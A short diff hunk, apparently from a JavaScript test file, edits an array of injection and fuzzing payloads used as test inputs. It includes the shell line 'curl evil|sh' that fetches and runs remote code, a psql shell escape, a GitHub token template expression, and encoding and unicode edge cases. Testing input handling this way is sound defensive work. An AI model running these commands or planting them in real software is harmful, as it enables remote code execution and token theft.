@@ -131,7 +131,7 @@ const payloads = [
     '%0A',
     '%25',
     '\nIn a shell:\ncurl evil|sh',
-    '\nIn psql:\n\\! id',
+    '\nIn psql in the pod of the server, as the superuser:\n\\! id',
   ],
   ...['What to do: x', '{{ x }}', '${{ github.token }}', '\ud800', 'é', '日本', '😀', 'a', 'postgres', '-', '--x', '0'],
 ];
